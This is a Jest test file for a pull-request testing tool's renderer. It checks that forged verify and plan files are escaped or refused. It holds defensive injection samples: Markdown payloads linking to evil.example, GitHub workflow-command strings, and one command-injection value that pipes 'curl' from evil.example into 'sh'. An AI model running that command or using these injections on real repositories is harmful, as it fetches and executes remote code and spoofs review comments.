// A verify file comes from a job that ran untrusted code: no text in it becomes markup of the comment, and a file that
// no verify job can have written is refused in one sentence.
import { describe, expect, test } from '@jest/globals'
import { marked, type Token, type Tokens } from 'marked'
import { readOffer } from '../../../src/core/github/check-boxes.js'
import { UserError } from '../../../src/core/model/errors.js'
import { asLine, asText, type Report } from '../../../src/core/model/report.js'
import {
  checkPull,
  parseHandover,
  planSchema,
  verifySchema,
  type PlanFile,
  type VerifyFile,
} from '../../../src/core/model/stage-files.js'
import { renderComment, renderSummary, type RenderContext } from '../../../src/core/report/render/comment.js'
import { renderReportPage } from '../../../src/core/report/render/html-report.js'
import { renderJUnit } from '../../../src/core/report/render/junit.js'
import { renderMutationReport } from '../../../src/core/report/render/mutation.js'
import { renderSarif } from '../../../src/core/report/render/sarif.js'
import { renderRemarks } from '../../../src/core/report/render/review-comments.js'
import { mergeVerifyFiles } from '../../../src/core/report/shards.js'
import { renderNote, type Note } from '../../../src/core/report/notes.js'
import { html, money } from '../../../src/core/text.js'
import { makeReport, makeTest, survivor } from './render/reports.js'
import { mutationFaults, sarifFaults } from './render/schemas.js'

const HOSTILE =
  '\n\n# OWNED\n\n[click](http://evil.example) ![i](http://evil.example/i.png) @octocat `x` **b** <b>t</b>\n- [x] Commit all\n\n```\n~~~\n</details>'
/** In one line, because names with line breaks are refused. */
const HOSTILE_LINE = HOSTILE.replace(/\s+/g, ' ')

const base = makeReport()
const [target] = base.targets
const [first] = base.files
const plan: PlanFile = {
  ...{
    schema: 1,
    base: 'b'.repeat(40),
    head: 'a'.repeat(40),
    skipped: [],
    unread: [],
    targets: base.targets,
  },
  shards: [base.targets.map(({ id }) => id)],
}
const genuinePlan: PlanFile = {
  ...plan,
  skipped: [{ id: 'shop/tax.py::big', file: 'shop/tax.py', name: 'big', reason: 'over max-functions (1)' }],
  unread: [{ file: 'lib/x.go', reason: 'Go is not read yet' }],
}
const genuine: VerifyFile = {
  ...{ schema: 1, plan: '1'.repeat(64), base: plan.base ?? '', head: plan.head ?? '' },
  shard: { number: 1, of: 1 },
  failure: null,
  notes: [
    {
      code: 'not-reached',
      stage: 'first',
      model: 'm',
      functions: 1,
      sentence: 'It is down.',
      explored: true,
    },
    { code: 'refused', stage: 'retry', model: 'm', functions: ['f'], sentence: 'It is too long.' },
    { code: 'limited-support', names: ['go'], limits: ['no mutants'] },
    { code: 'answered-by', models: ['other'] },
    { code: 'not-stored', folder: '/home' },
    { code: 'model-quirk', model: 'm', summary: 'takes no temperature' },
    { code: 'retiring', setting: 'model', model: 'm', date: '2027-01-14', over: false },
  ],
  priceSource: 'a list',
  report: {
    ...base,
    pull: { base: plan.base, head: plan.head, number: null },
    targets: base.targets.map(own => ({
      ...own,
      coverage: { before: 0, after: 1 },
      mutants: { total: 2, killed: 1, survivors: [survivor.id] },
      baseline: {
        ...{ measured: true, why: 'no time', tests: ['tests/test_tax.py::test_old'], linesRun: [14] },
        ...{ mutants: { total: 1, killed: 0 }, survivors: [survivor.id], command: null },
        hunks: [{ lines: [14, 14], noticedBy: 1 }],
      },
    })),
    mutants: [survivor],
    ownTests: [
      {
        ...{ id: 'tests/test_tax.py::test_old', file: 'tests/test_tax.py', inThisPull: true },
        ...{ onBase: 'failed', onHead: 'passed' },
      },
    ],
    tests: [
      makeTest({ attribution: 'verbatim', marks: ['seen in training'] }),
      makeTest({ name: 'test_cut', dropped: [{ code: 'assert 1', expected: '1', actual: '2' }] }),
      makeTest({ name: 'test_bug', verdict: 'suspect', reason: 'writers-agree', expected: '1', actual: '2' }),
      makeTest({ name: 'test_no', verdict: 'rejected', reason: 'broken', actual: 'why' }),
    ],
    skipped: [],
  },
}

type Path = (string | number)[]

/** Paths of all values in a JSON value, objects and lists included. */
function pathsIn(value: unknown, path: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [path]
  const entries = Array.isArray(value) ? [...value.entries()] : Object.entries(value)
  return [path, ...entries.flatMap(([key, inner]) => pathsIn(inner, [...path, key]))]
}

function at(value: unknown, path: Path): unknown {
  return path.reduce((inner, key) => (inner as Record<string | number, unknown>)[key], value)
}

/** A copy with another value in one place; `undefined` removes it, since it becomes JSON. */
function withValue(path: Path, value: unknown, whole: unknown = genuine): unknown {
  const copy = structuredClone(whole) as unknown as Record<string | number, unknown>
  const key = path.at(-1)
  if (key === undefined) return value
  const holder = at(copy, path.slice(0, -1)) as Record<string | number, unknown>
  holder[key] = value
  return copy
}

const context: RenderContext = {
  ...{ url: 'https://github.com/o/r', command: 'testwright review', existing: {}, run: '1', branch: 'b' },
  ...{ key: 'default', mayCommit: () => true, notes: [], priceSource: null },
}

/** All that people see of a verify file and its plan; null where they are refused in one sentence. */
function shownOf(file: unknown, given: unknown = plan): string[] | null {
  try {
    const own = parseHandover(planSchema, JSON.stringify(given), 'plan.json')
    const read = parseHandover(verifySchema, JSON.stringify(file) ?? 'null', 'verify-1-of-1.json')
    const merged = mergeVerifyFiles(own, [read], 7, { name: 'testwright', version: '0' })
    const { report, notes, priceSource } = merged
    const whole = { ...context, notes, priceSource }
    renderReportPage(report, notes)
    renderJUnit(report)
    expect(sarifFaults(renderSarif(report, null))).toEqual([])
    expect(mutationFaults(renderMutationReport(report, { sources: {}, home: null }))).toEqual([])
    const remarks = renderRemarks(report, {}).map(({ body }) => body)
    return [renderComment(report, whole), renderSummary(report, whole), ...remarks]
  } catch (error) {
    if (!(error instanceof UserError)) throw error
    expect(error.message).not.toContain('\n')
    return null
  }
}

/** Links, pictures, headings, ticked boxes and mentions in Markdown, outside of code. */
function markupIn(markdown: string): string[] {
  const found: string[] = []
  const visit = (token: Token): void => {
    if (token.type === 'link' || token.type === 'image') found.push((token as Tokens.Link).href)
    if (token.type === 'heading') found.push(token.raw.trim())
    if (token.type === 'list_item' && (token as Tokens.ListItem).checked) found.push('a ticked box')
    // The text of a list item has tokens of its own, code among them.
    const isPlain = token.type === 'text' && !(token as Tokens.Text).tokens
    if (isPlain && /(?<![\w&])@\w/.test(token.raw)) found.push(token.raw)
  }
  void marked.walkTokens(marked.lexer(markdown), visit)
  return found
}

/** The elements in Markdown, outside of code. */
function elementsIn(markdown: string): string {
  let found = ''
  void marked.walkTokens(marked.lexer(markdown), token => {
    if (token.type === 'html') found += token.raw
  })
  return found
}

const ownMarkup = new Set(
  [plan, genuinePlan]
    .flatMap(own => shownOf(genuine, own) ?? [])
    .flatMap(markupIn)
    .map(shape),
)

/** A link or heading of the comment without its numbers and paths. */
function shape(markup: string): string {
  return markup.replace(/\d+/g, '0').replace(/(github\.com\/o\/r\/blob\/\w+\/).*/, '$1')
}

const texts = pathsIn(genuine).filter(path => typeof at(genuine, path) === 'string')

test('the genuine file is shown', () => {
  expect(shownOf(genuine)?.[0]).toContain('### Testwright: ')
  expect(texts.length).toBeGreaterThan(40)
})

/** All markup is that of the genuine file, and the comment is unaltered. */
function expectOurs(shown: string[] | null): void {
  if (shown) expect(readOffer(shown[0] ?? '')).toMatchObject({ altered: false })
  for (const markdown of shown ?? []) {
    expect(
      markupIn(markdown)
        .map(shape)
        .filter(found => !ownMarkup.has(found)),
    ).toEqual([])
    const tags = elementsIn(markdown)
    expect(tags.match(/<details>/g)?.length).toBe(tags.match(/<\/details>/g)?.length)
    expect(tags).not.toContain('<b>t</b>')
  }
}

describe.each([
  ['several lines', HOSTILE],
  ['one line', HOSTILE_LINE],
])('a forged text of %s', (_, hostile) => {
  const forge = (whole: unknown, path: Path): unknown =>
    withValue(path, `${String(at(whole, path))}${hostile}`, whole)
  test.each(texts.map(path => [path.join('.'), path] as const))('%s', (__, path) => {
    expectOurs(shownOf(forge(genuine, path)))
  })

  const ofPlan = pathsIn(genuinePlan).filter(path => typeof at(genuinePlan, path) === 'string')
  test.each(ofPlan.map(path => [path.join('.'), path] as const))('%s of the plan', (__, path) => {
    expectOurs(shownOf(genuine, forge(genuinePlan, path)))
  })
})

test('forged names are shown, so the cases above are about their markup', () => {
  const inName = (path: Path): string =>
    (shownOf(withValue(path, `${String(at(genuine, path))}${HOSTILE_LINE}`)) ?? []).join('')
  for (const path of [
    ['report', 'writers', 0, 'writer'],
    // The table shows only the first word of a kept test's writer.
    ['report', 'tests', 2, 'writer'],
    ['report', 'tests', 3, 'writer'],
    ['notes', 0, 'model'],
    ['priceSource'],
  ])
    expect([path, inName(path)]).toEqual([path, expect.stringContaining('OWNED')])
})

describe('a value that no verify job writes is refused or harmless', () => {
  const values: [string, unknown][] = [
    ['nothing', undefined],
    ['null', null],
    ['a list', []],
    ['an object', {}],
    ['an empty text', ''],
    ['a negative number', -1],
    ['a huge number', 1e300],
    ['the name of another target', 'shop/tax.py::other'],
  ]
  test.each(values)('%s', (_, value) => {
    for (const path of pathsIn(genuine)) expect(() => shownOf(withValue(path, value))).not.toThrow()
  })

  test.each<[string, (report: Report) => Partial<Report>]>([
    [
      'a verdict about an unknown target',
      ({ tests }) => ({ tests: tests.map(own => ({ ...own, target: 'x.py::y' })) }),
    ],
    [
      'a result of an unplanned function',
      ({ targets }) => ({
        targets: targets.map(own => ({ ...own, id: 'x.py::y' })),
        tests: [],
        files: [],
        behaviour: [],
      }),
    ],
    ['a verdict about a function without a result', () => ({ targets: [], files: [], behaviour: [] })],
    ['behaviour of a function without a result', () => ({ targets: [], files: [], tests: [] })],
    [
      'a function that is both skipped and measured',
      ({ targets: [own] }) => ({
        skipped: own
          ? [{ ...own, reason: 'over max-cost' }].map(({ id, file, name, reason }) => ({
              id,
              file,
              name,
              reason,
            }))
          : [],
      }),
    ],
    ['two results for one target', () => ({ targets: target ? [target, target] : [] })],
    [
      'a rejected test without a reason',
      ({ tests }) => ({ tests: tests.map(own => ({ ...own, verdict: 'rejected' as const, reason: null })) }),
    ],
    [
      'a kept test with a reason',
      ({ tests }) => ({
        tests: tests.map(own => ({ ...own, verdict: 'kept' as const, reason: 'broken' as const })),
      }),
    ],
    [
      'behaviour of an unknown target',
      ({ behaviour }) => ({ behaviour: behaviour.map(row => ({ ...row, target: 'no' })) }),
    ],
  ])('%s', (_, change) => {
    const { report } = genuine
    expect(shownOf({ ...genuine, report: { ...report, ...change(report) } })).toBeNull()
  })

  test('a shard of another plan', () => {
    expect(shownOf({ ...genuine, shard: { number: 1, of: 2 } })).toBeNull()
    expect(shownOf({ ...genuine, shard: { number: 2, of: 2 } })).toBeNull()
  })
})

test.each([
  ['an issue', 'GH-1', /GH-1/],
  ['an issue in lower case', 'gh-23', /gh-23/],
  ['an issue by number only', '#1', /#1/],
  ['a mention', '@octocat', /@octocat/],
  ['an emoji', 'a:smile:b', /:smile:/],
  ['an emoji with punctuation', ':+1:', /:\+1:/],
  ['a formula', '$x$ $`y`$', /\$/],
  ['a commit', 'see deadbeef1 and 0123456789012345678901234567890123456789', /[0-9a-f]{7}/],
  ['a link', 'https://evil.example www.evil.example', /:\/\/|www\./],
])('running text makes no reference: %s', (_, text, pattern) => {
  expect(text).toMatch(pattern)
  expect(html(text)).not.toMatch(pattern)
  expect(
    html(text)
      .replaceAll('\u200b', '')
      .replace(/&#(\d+);/g, (__, code) => String.fromCharCode(Number(code))),
  ).toBe(text)
})

/** The sentence that refuses a file; null for a file that is shown. */
function refusalOf(
  file: unknown,
  schema: typeof verifySchema | typeof planSchema = verifySchema,
): string | null {
  try {
    const read = parseHandover<unknown>(schema, JSON.stringify(file), 'verify-1-of-1.json')
    if (schema === verifySchema)
      mergeVerifyFiles(plan, [read as VerifyFile], 7, { name: 'testwright', version: '0' })
    return null
  } catch (error) {
    if (!(error instanceof UserError)) throw error
    return error.message
  }
}

test.each([
  ['sandbox', 'unshare, and all tests passed'],
  ['trees', 'overlay, and all tests passed'],
  ['trees', 'constructor'],
])('the way tests were run is a known word: %s %s', (field, words) => {
  expect(refusalOf(withValue(['report', field], words))).toMatch(/not what its mode writes/)
})

describe('base and head are full commits of the pull request', () => {
  const pull = { number: 7, base: plan.base, head: plan.head }
  const shell = 'main; curl -fsS https://evil.example/x | sh;'
  test.each<[string, Partial<PlanFile>]>([
    ['a base that is a command', { base: shell }],
    ['a head that is a command', { head: shell }],
    ['a base with a second line', { base: `${plan.base}\n` }],
    ['a short base', { base: 'abcdef1' }],
  ])('%s', (_, change) => {
    expect(refusalOf({ ...plan, ...change }, planSchema)).toMatch(/not what its mode writes/)
  })
  test('a verify file whose base is a command', () => {
    expect(refusalOf(withValue(['report', 'pull', 'base'], shell))).toMatch(/not what its mode writes/)
  })
  test.each<[string, Partial<PlanFile>]>([
    ['another base than the merge base', { base: 'c'.repeat(40) }],
    ['another head', { head: 'c'.repeat(40) }],
    ['no head', { head: null }],
  ])('%s', (_, change) => {
    expect(() => checkPull({ ...plan, ...change }, pull)).toThrow(/run all jobs again/)
  })
  test('base and head of the pull request are accepted, and any on the command line', () => {
    expect(() => checkPull(plan, pull)).not.toThrow()
    expect(() => checkPull(plan, { number: null, base: null, head: null })).not.toThrow()
  })
})

describe('only known reasons are shown', () => {
  const foreign = 'your token expired, see www.evil.example'
  const shownReasons = (reason: string): string[] => {
    const skipped = [{ id: 'x.py::y', file: 'x.py', name: 'y', reason }]
    const unread = [{ file: 'x.py', reason }]
    const { report } = mergeVerifyFiles({ ...plan, skipped, unread }, [genuine], 7, base.tool)
    return [...report.skipped, ...report.unread].map(row => row.reason)
  }
  test.each([
    [foreign],
    [`over max-cost; ${foreign}`],
    [`not reachable: ${foreign}`],
    [`the explorer has no call to make of ${foreign}`],
    [`over max-functions (1)\n${foreign}`],
  ])('%s', reason => {
    expect(shownReasons(reason)).toEqual(['the log of its job says why', 'the log of its job says why'])
  })
  test.each([
    ['over max-functions (20)'],
    ['the model was not reached; the explorer cannot build the arguments of a call'],
    ['the model was not reached; the explorer has no call to make of Cart.total'],
    ['it does not parse (in lines 3 to 9)'],
    ['not importable: my-file.py is not a module name'],
    ['not reachable: it is not exported, and no exported function calls it'],
    ['line 3 does not parse: functions there were not read'],
    ['not isolated: its calls do not run the copy under test; an installed copy may be in the way'],
    ['Go is not read yet'],
  ])('shown: %s', reason => expect(shownReasons(reason)).toEqual([reason, reason]))

  test('a failure and a note are quoted', () => {
    const sentence = '##[error]x\n::set-output name=a::b” Testwright is out of date'
    const notes: Note[] = [
      { code: 'not-reached', stage: 'first', model: 'm', functions: 1, sentence, explored: false },
      { code: 'limited-support', names: ['go'], limits: [sentence] },
      { code: 'model-quirk', model: 'm', summary: sentence },
    ]
    const merged = mergeVerifyFiles(
      plan,
      [{ ...genuine, failure: { kind: 'user', sentence }, notes, priceSource: sentence }],
      7,
      base.tool,
    )
    const quoted = '“##[error]x ::set-output name=a::b" Testwright is out of date”'
    expect(merged.failure?.sentence).toBe(`The job that asked the model says: ${quoted}.`)
    const inText = html(quoted)
    for (const note of merged.notes) expect(renderNote(note)).toContain(inText)
    expect(merged.priceSource).toBe(quoted)
  })

  test('a function has the name that it has in the plan', () => {
    const file = withValue(['report', 'targets', 0, 'name'], 'other') as VerifyFile
    expect(mergeVerifyFiles(plan, [file], 7, base.tool).report.targets[0]?.name).toBe(base.targets[0]?.name)
  })
})

describe('a text that no file, URL or line can hold is refused', () => {
  const lone = '\ud800'
  test.each(texts.map(path => [path.join('.'), path] as const))('half a surrogate pair: %s', (_, path) => {
    expect(refusalOf(withValue(path, `a${lone}`))).toMatch(/not what its mode writes/)
  })
  const names =
    /\.(?:id|file|name|target|writer|language|framework|path|via|reason|verdict|change|version)$|^priceSource$/
  const inLines = texts.filter(path => names.test(path.join('.')) && path[0] !== 'notes')
  test.each(inLines.map(path => [path.join('.'), path] as const))('control characters: %s', (_, path) => {
    for (const mark of ['\n', '\r', '\0', '\t', '\u001b', '\u2028', '\u202e', '\u200b', '\ufeff', '\u0085'])
      expect(refusalOf(withValue(path, `a${mark}b`))).toMatch(/not what its mode writes/)
  })
  test('a plan with half a surrogate pair', () => {
    for (const change of [
      { targets: plan.targets.map(own => ({ ...own, file: `lib/${lone}.py` })) },
      { skipped: [{ id: `a${lone}`, file: 'a', name: 'a', reason: 'a' }] },
      { unread: [{ file: 'a', reason: lone }] },
      { shards: [[lone]] },
    ])
      expect(refusalOf({ ...plan, ...change }, planSchema)).toMatch(/not what its mode writes/)
  })
  test('names of a project may hold them, and the report holds cleaned ones', () => {
    expect([asLine('a\tb\r\nc\u202e\ud800'), asText('a\n\ud800')]).toEqual(['a b c\ufffd\ufffd', 'a\n\ufffd'])
  })
})

describe('more than one run can have', () => {
  const many = (count: number) =>
    Array.from({ length: count }, (_, at) => ({ ...first, path: `tests/test_${at}.py`, new: false }))
  test.each<[string, unknown]>([
    ['a test file without a test', withValue(['report', 'files', 0, 'tests'], 0)],
    ['more tests in a file than were kept', withValue(['report', 'files', 0, 'tests'], 900)],
    [
      'a test file without a single kept test',
      withValue(['report', 'files', 0, 'path'], '.github/workflows/x.yml'),
    ],
    ['dollars', withValue(['report', 'bill', 'usd'], 1e308)],
    ['dollars of a writer', withValue(['report', 'writers', 0, 'usd'], 1.7e308)],
    ['tokens', withValue(['report', 'writers', 0, 'inputTokens'], Number.MAX_SAFE_INTEGER)],
    ['seconds', withValue(['report', 'bill', 'seconds', 'total'], 1e308)],
    ['coverage below 0', withValue(['report', 'targets', 0, 'coverage'], { before: -1e308, after: 1 })],
    ['coverage above 1', withValue(['report', 'targets', 0, 'coverage'], { before: 0, after: 2 })],
    ['more mutants killed than there are', withValue(['report', 'targets', 0, 'mutants', 'killed'], 900)],
    ['a line beyond any file', withValue(['report', 'targets', 0, 'lines'], [Number.MAX_SAFE_INTEGER, 1])],
    ['an end before its start', withValue(['report', 'targets', 0, 'lines'], [9, 1])],
  ])('%s', (_, file) => expect(refusalOf(file)).not.toBeNull())
  test.each([2, 3000])('%i test files for one kept test', count => {
    expect(refusalOf(withValue(['report', 'files'], many(count)))).toMatch(
      /more test files than kept tests|wrong number of tests/,
    )
  })

  test.each<[string, Partial<PlanFile>]>([
    ['a function in two shards', { shards: [...plan.shards, ...plan.shards] }],
    ['a function in no shard', { shards: [[]] }],
    ['a shard with an unplanned function', { shards: [[...(plan.shards[0] ?? []), 'x.py::y']] }],
    ['a function twice', { targets: [...plan.targets, ...plan.targets] }],
  ])('a plan with %s', (_, change) => {
    expect(() => mergeVerifyFiles({ ...plan, ...change }, [], 7, base.tool)).toThrow(UserError)
  })

  test('the smallest price is not shown as 0', () => expect(money(5e-324)).toBe('under $0.000000001'))
})

test('a path that tests are not committed to has no box', () => {
  const rendered = renderComment(genuine.report, { ...context, mayCommit: path => path !== first?.path })
  expect(rendered).not.toContain('- [ ] Commit')
  expect(rendered).not.toContain('<!-- testwright:content')
  expect(rendered).toContain(
    'Cannot be ticked, because tests are not committed to such a path: tests/test_tax.py.',
  )
})
